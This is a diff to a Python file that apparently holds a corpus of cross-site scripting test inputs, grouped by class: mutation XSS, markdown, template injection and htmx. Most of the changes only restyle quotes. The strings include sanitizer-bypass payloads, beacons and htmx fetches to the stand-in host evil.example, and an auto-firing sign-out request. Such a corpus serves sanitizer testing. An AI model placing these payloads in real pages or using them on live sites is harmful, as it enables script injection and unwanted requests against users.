@@ -1,4 +1,6 @@
-"""Script injections by class. Each, where nothing guards, calls `alert`, sets `__ran` or asks away."""
+"""Script injections by class: where nothing guards, each runs something or asks elsewhere."""
+
+# ruff: noqa: E501
 
 RUN = "alert(window.__ran=1)"
 B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
@@ -66,7 +68,7 @@ CORPUS: dict[str, list[str]] = {
     "mutation": [
         f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
         f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
-        f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
+        f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
         f'<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={RUN} src=x>">',
     ],
     "svg and mathml": [
@@ -83,23 +85,23 @@ CORPUS: dict[str, list[str]] = {
         f'[α](https://a.example "t" onclick="{RUN}")',
         "![α](https://evil.example/pixel.png)",
         "![α](//evil.example/pixel.png)",
-        f"```{RUN}\" onclick=\"{RUN}\n</code></pre><script>{RUN}</script>\n```",
+        f'```{RUN}" onclick="{RUN}\n</code></pre><script>{RUN}</script>\n```',
         f"`</code><script>{RUN}</script>`",
-        f"[^1\"onload={RUN}]\n\n[^1\"onload={RUN}]: <script>{RUN}</script>",
+        f'[^1"onload={RUN}]\n\n[^1"onload={RUN}]: <script>{RUN}</script>',
         f"||<script>{RUN}</script>||",
         f"- [ ] <script>{RUN}</script>\n- [x] <img src=x onerror={RUN}>",
         f"| α |\n|---|\n| <script>{RUN}</script> |",
-        f"@ada\"><script>{RUN}</script>",
+        f'@ada"><script>{RUN}</script>',
         f"@[x](javascript:{RUN})",
-        f":smile\"><script>{RUN}</script>:",
+        f':smile"><script>{RUN}</script>:',
         f"> [Ada #1](javascript:{RUN})\n> α",
-        f"#ετικέτα\"><script>{RUN}</script>",
+        f'#ετικέτα"><script>{RUN}</script>',
     ],
     "templates": [
         "{{ 7*7 }}{% raw %}{{ ''.__class__ }}",
         f"{{{{constructor.constructor('{RUN}')()}}}}",
         f"${{{RUN}}}",
-        f"<div v-html=\"'<img src=x onerror={RUN}>'\" x-data=\"{RUN}\" ng-app>",
+        f'<div v-html="\'<img src=x onerror={RUN}>\'" x-data="{RUN}" ng-app>',
         "%(name)s %s %d {0} {name}",
     ],
     "css": [
@@ -121,7 +123,7 @@ CORPUS: dict[str, list[str]] = {
     ],
     "htmx": [
         f'<b hx-on:load="{RUN}">α</b>',
-        f'<b hx-get="//evil.example/x" hx-trigger="load">α</b>',
+        '<b hx-get="//evil.example/x" hx-trigger="load">α</b>',
         '<b data-hx-post="/accounts/sign-out" hx-trigger="load">α</b>',
         f'<b hx-vals="js:{{a:{RUN}}}" hx-trigger="load" hx-get="/">α</b>',
         '<a data-composer data-wrap="x" id="main" class="modal" name="csrf_token">α</a>',
